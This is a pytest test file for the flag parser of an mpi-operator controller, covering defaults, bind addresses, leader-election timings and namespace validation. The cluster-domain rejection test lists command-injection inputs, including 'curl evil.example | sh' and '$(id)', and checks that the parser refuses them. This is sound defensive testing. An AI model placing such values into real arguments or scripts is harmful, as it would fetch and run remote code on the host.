"""Flags of the mpi-operator command: names and defaults as the reference operator's."""

from __future__ import annotations

import dataclasses

import pytest

from mpi_operator.api.scheduling import GangKind
from mpi_operator.cmd import main
from mpi_operator.server.flags import go_style_argv
from mpi_operator.server.options import ServerOptions, parse_args

UPSTREAM_DEFAULTS = {
    "kubeconfig": "",
    "master": "",
    "namespace": "",
    "threadiness": 2,
    "monitoring_port": 0,
    "print_version": False,
    "gang_scheduling": "",
    "lock_namespace": "mpi-operator",
    "kube_api_qps": 100,
    "kube_api_burst": 200,
    "controller_queue_rate_limit": 10,
    "controller_queue_burst": 100,
    "cluster_domain": "",
}


def test_defaults_equal_upstream() -> None:
    opts = parse_args([], environ={})
    fields = dataclasses.asdict(opts)
    assert {k: fields[k] for k in UPSTREAM_DEFAULTS} == UPSTREAM_DEFAULTS
    assert opts.log_format == "auto"  # console on a terminal, else json
    assert opts.log_level == "info"
    assert opts.healthz_port == 8080
    assert opts.healthz_bind_address == "0.0.0.0"
    assert (opts.lease_duration, opts.renew_deadline, opts.retry_period) == (15.0, 5.0, 3.0)
    assert opts == ServerOptions()


def test_namespace_defaults_to_kubeflow_namespace_env() -> None:
    assert parse_args([], environ={"KUBEFLOW_NAMESPACE": "kubeflow"}).namespace == "kubeflow"
    assert parse_args(["--namespace", "x"], environ={"KUBEFLOW_NAMESPACE": "kf"}).namespace == "x"
    assert parse_args(["--namespace="], environ={"KUBEFLOW_NAMESPACE": "kf"}).namespace == ""


@pytest.mark.parametrize(
    ("argv", "field", "value"),
    [
        (["--kubeConfig", "/k"], "kubeconfig", "/k"),
        (["--kubeConfig=/k"], "kubeconfig", "/k"),
        (["-kubeConfig=/k"], "kubeconfig", "/k"),
        (["-kubeConfig", "/k"], "kubeconfig", "/k"),
        (["--master", "https://h:6443"], "master", "https://h:6443"),
        (["--threadiness", "8"], "threadiness", 8),
        (["-threadiness=8"], "threadiness", 8),
        (["--monitoring-port", "9090"], "monitoring_port", 9090),
        (["--lock-namespace", "ops"], "lock_namespace", "ops"),
        (["--kube-api-qps", "50"], "kube_api_qps", 50),
        (["--kube-api-burst", "80"], "kube_api_burst", 80),
        (["--controller-queue-rate-limit", "3"], "controller_queue_rate_limit", 3),
        (["--controller-queue-burst", "7"], "controller_queue_burst", 7),
        (["--cluster-domain", "cluster.local"], "cluster_domain", "cluster.local"),
        (["--log-format", "console"], "log_format", "console"),
        (["--log-level", "DEBUG"], "log_level", "debug"),
        (["--healthz-port", "0"], "healthz_port", 0),
        (["--healthz-bind-address", "127.0.0.1"], "healthz_bind_address", "127.0.0.1"),
        (["--version"], "print_version", True),
        (["-version"], "print_version", True),
        (["--version=false"], "print_version", False),
        ([], "enable_t9k_controller", True),
        (["--enable-t9k-controller=false"], "enable_t9k_controller", False),
        (["--enable-t9k-controller"], "enable_t9k_controller", True),
        (
            [
                "--lease-duration=4",
                "--renew-deadline=3",
                "--retry-period=1",
                "--shutdown-drain-seconds=0",
            ],
            "lease_duration",
            4.0,
        ),
        # klog's flags from the reference manifests are accepted and ignored.
        (["-alsologtostderr", "-v=4"], "threadiness", 2),
    ],
)
def test_flags(argv: list[str], field: str, value: object) -> None:
    assert getattr(parse_args(argv, environ={}), field) == value


@pytest.mark.parametrize(
    "argv",
    [
        ["--threadiness", "many"],
        ["--monitoring-port", "70000"],
        ["--log-format", "xml"],
        ["--no-such-flag"],
        ["--kubeconf=/x"],  # no abbreviations
        ["--renew-deadline", "20"],  # not below the lease duration
        ["--version=maybe"],
    ],
)
def test_bad_flags_exit_2(argv: list[str]) -> None:
    with pytest.raises(SystemExit) as exc:
        parse_args(argv, environ={})
    assert exc.value.code == 2


@pytest.mark.parametrize(
    ("argv", "metrics", "health"),
    [
        # The reference's: no /metrics, /healthz on port 8080 of every address.
        ([], None, ("0.0.0.0", 8080)),
        (["--monitoring-port=8081"], ("0.0.0.0", 8081), ("0.0.0.0", 8080)),
        (["--metrics-bind-address=127.0.0.1:9090"], ("127.0.0.1", 9090), ("0.0.0.0", 8080)),
        (["--metrics-bind-address=:9090", "--monitoring-port=8081"], ("", 9090), None),
        (["--metrics-bind-address=0", "--monitoring-port=8081"], None, None),
        (["--metrics-bind-address=[::1]:9090"], ("::1", 9090), None),
        (["--health-probe-bind-address=:9440", "--healthz-port=1"], None, ("", 9440)),
        (["--health-probe-bind-address=localhost:0"], None, ("localhost", 0)),
        (["--healthz-bind-address=127.0.0.1", "--healthz-port=9000"], None, ("127.0.0.1", 9000)),
    ],
)
def test_where_metrics_and_healthz_listen(
    argv: list[str], metrics: tuple[str, int] | None, health: tuple[str, int] | None
) -> None:
    """controller-runtime's --metrics-bind-address and --health-probe-bind-address
    (host:port) win over the older port and address flags, which decide otherwise."""
    opts = parse_args(argv, environ={})
    assert opts.metrics_listen == metrics
    if health is not None:
        assert opts.health_listen == health


@pytest.mark.parametrize(
    ("flag", "value"),
    [
        ("--metrics-bind-address", "9090"),
        ("--metrics-bind-address", "localhost"),
        ("--metrics-bind-address", "::1:9090"),
        ("--metrics-bind-address", "[nope]:9090"),
        ("--metrics-bind-address", ":70000"),
        ("--metrics-bind-address", ":http"),
        ("--health-probe-bind-address", "0"),
        ("--health-probe-bind-address", "a b:8080"),
        ("--health-probe-bind-address", "8080"),
    ],
)
def test_a_bind_address_that_is_not_host_port_is_refused_naming_the_flag(
    flag: str, value: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exc:
        parse_args([f"{flag}={value}"], environ={})
    assert exc.value.code == 2
    assert f"argument {flag}: " in capsys.readouterr().err


@pytest.mark.parametrize(
    "domain",
    ["cluster.local", "cluster.local.", "c", "a-1.b2", "x" * 63 + "." + "y" * 63],
)
def test_a_dns_cluster_domain_is_taken_as_given(domain: str) -> None:
    assert parse_args(["--cluster-domain", domain], environ={}).cluster_domain == domain


@pytest.mark.parametrize(
    "domain",
    [
        "cluster.local; curl evil.example | sh",
        "$(id)",
        "a b",
        "Cluster.Local",
        "-x.local",
        "a..b",
        ".local",
        "x" * 64,
        ".".join(["abcdefg"] * 32) + "x",  # 256 characters
        "cluster.local\n",
    ],
)
def test_a_cluster_domain_that_is_no_dns_domain_is_refused_naming_the_flag(
    domain: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """It goes unquoted into discover_hosts.sh: the process refuses to start."""
    with pytest.raises(SystemExit) as exc:
        parse_args([f"--cluster-domain={domain}"], environ={})
    assert exc.value.code == 2
    err = capsys.readouterr().err
    assert "argument --cluster-domain:" in err and "is not a DNS domain" in err


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (
            ["--lease-duration=10", "--renew-deadline=10"],
            "--lease-duration (10s) must be greater than --renew-deadline (10s)",
        ),
        (
            ["--renew-deadline=3", "--retry-period=2.5"],
            "--renew-deadline (3s) must be greater than 1.2 x --retry-period (2.5s)",
        ),
        (["--shutdown-drain-seconds=-1"], "--shutdown-drain-seconds (-1s) must not be negative"),
        (
            [
                "--lease-duration=0.9",
                "--renew-deadline=0.5",
                "--retry-period=0.1",
                "--shutdown-drain-seconds=0.2",
            ],
            "--lease-duration (0.9s) must be at least 1s",
        ),
        (
            ["--shutdown-drain-seconds=8"],
            "--shutdown-drain-seconds (8s) is too long: a leader that cannot renew steps down "
            "up to --renew-deadline + --retry-period (8s) after its last renewal, and must "
            "have drained before a successor may take over at --lease-duration (15s); "
            "at most 7s fits",
        ),
        (
            ["--lease-duration=4", "--renew-deadline=3", "--retry-period=1"],
            "--shutdown-drain-seconds (3s) is too long",
        ),
    ],
)
def test_bad_leader_election_timings_name_the_flags(
    argv: list[str], message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exc:
        parse_args(argv, environ={})
    assert exc.value.code == 2
    assert message in capsys.readouterr().err


@pytest.mark.parametrize(
    "argv",
    [
        [],  # 15/5/3 and a 3 s drain: 11 s of 15
        ["--shutdown-drain-seconds=7"],  # exactly fits
        # the chaos suite's
        [
            "--lease-duration=4",
            "--renew-deadline=3",
            "--retry-period=0.5",
            "--shutdown-drain-seconds=0.5",
        ],
        ["--lease-duration=60", "--renew-deadline=45", "--retry-period=1"],
    ],
)
def test_good_leader_election_timings(argv: list[str]) -> None:
    parse_args(argv, environ={})


@pytest.mark.parametrize(
    ("flag", "kind", "scheduler"),
    [
        ("", None, None),
        ("volcano", GangKind.VOLCANO, "volcano"),
        ("scheduler-plugins-scheduler", GangKind.SCHEDULER_PLUGINS, "scheduler-plugins-scheduler"),
        ("my-coscheduler", GangKind.SCHEDULER_PLUGINS, "my-coscheduler"),
    ],
)
def test_gang_scheduling_mapping(flag: str, kind: GangKind | None, scheduler: str | None) -> None:
    opts = parse_args(["--gang-scheduling", flag], environ={})
    gang = opts.controller_options().gang
    if kind is None:
        assert gang is None
    else:
        assert gang is not None
        assert (gang.kind, gang.scheduler_name) == (kind, scheduler)


def test_controller_options() -> None:
    opts = parse_args(
        [
            "--namespace",
            "team",
            "--threadiness",
            "4",
            "--cluster-domain",
            "c.l",
            "--controller-queue-rate-limit",
            "20",
            "--controller-queue-burst",
            "30",
        ],
        environ={},
    )
    co = opts.controller_options()
    assert (co.namespace, co.threadiness, co.cluster_domain) == ("team", 4, "c.l")
    assert (co.queue_rate_limit, co.queue_burst) == (20.0, 30)
    assert parse_args([], environ={}).controller_options().namespace is None


def test_go_style_only_rewrites_known_long_flags() -> None:
    names = {"kubeConfig", "v"}
    assert go_style_argv(["-kubeConfig=/a", "-x", "-5", "--", "-kubeConfig"], names) == [
        "--kubeConfig=/a",
        "-x",
        "-5",
        "--",
        "-kubeConfig",
    ]


def test_version_exits_0_and_prints(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--version"]) == 0
    out = capsys.readouterr().out
    assert "API Version: v2" in out
    assert "Version: v0.1.0" in out


def test_help_exits_0(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--help"]) == 0
    out = capsys.readouterr().out
    for flag in ("--kubeConfig", "--gang-scheduling", "--monitoring-port", "--lock-namespace"):
        assert flag in out


def test_usage_error_returns_2(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--threadiness", "x"]) == 2
    assert "threadiness" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("value", "namespaces", "controller_namespace"),
    [
        ("", (), None),
        ("team", ("team",), "team"),
        # One namespace is the reference's flag, passed on unchecked as before.
        ("Team_1", ("Team_1",), "Team_1"),
        ("a,b", ("a", "b"), ("a", "b")),
        ("team-1,x9,a", ("team-1", "x9", "a"), ("team-1", "x9", "a")),
    ],
)
def test_namespace_list(
    value: str, namespaces: tuple[str, ...], controller_namespace: object
) -> None:
    for opts in (
        parse_args(["--namespace", value], environ={}),
        parse_args([], environ={"KUBEFLOW_NAMESPACE": value}),
    ):
        assert opts.namespace == value
        assert opts.namespaces == namespaces
        assert opts.controller_options().namespace == controller_namespace


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("a,,b", "'' in the list 'a,,b' is not a valid namespace name"),
        ("a,", "'' in the list 'a,' is not a valid namespace name"),
        ("a,B", "'B' in the list 'a,B' is not a valid namespace name"),
        ("a, b", "' b' in the list 'a, b' is not a valid namespace name"),
        ("a,-b", "'-b' in the list 'a,-b' is not a valid namespace name"),
        ("a,b.c", "'b.c' in the list 'a,b.c' is not a valid namespace name"),
        (f"a,{'x' * 64}", f"'{'x' * 64}' in the list"),
        ("a,b,a", "namespace 'a' is listed more than once in 'a,b,a'"),
    ],
)
def test_namespace_list_rejected(
    value: str, message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    for argv, environ in ((["--namespace", value], {}), ([], {"KUBEFLOW_NAMESPACE": value})):
        with pytest.raises(SystemExit) as exc:
            parse_args(argv, environ=environ)
        assert exc.value.code == 2
        err = capsys.readouterr().err
        assert "argument --namespace: " in err and message in err, err


@pytest.mark.parametrize(
    ("argv", "hint"),
    [
        (["--kubeconfig", "/x"], "--kubeconfig (did you mean --kubeConfig?)"),
        (["--kubeconfig=/x"], "--kubeconfig=/x (did you mean --kubeConfig?)"),
        (["-kubeconfig", "/x"], "-kubeconfig (did you mean --kubeConfig?)"),
        (["--lock_namespace", "x"], "(did you mean --lock-namespace?)"),
        (["--threadines", "2"], "(did you mean --threadiness?)"),
    ],
)
def test_a_misspelt_flag_gets_a_hint(
    argv: list[str], hint: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exc:
        parse_args(argv, environ={})
    assert exc.value.code == 2
    err = capsys.readouterr().err
    assert "unrecognized arguments" in err and hint in err


def test_an_unknown_flag_with_no_likely_meaning_gets_no_hint(
    capsys: pytest.CaptureFixture[str],
) -> None:
    with pytest.raises(SystemExit):
        parse_args(["--no-such-flag"], environ={})
    assert "did you mean" not in capsys.readouterr().err
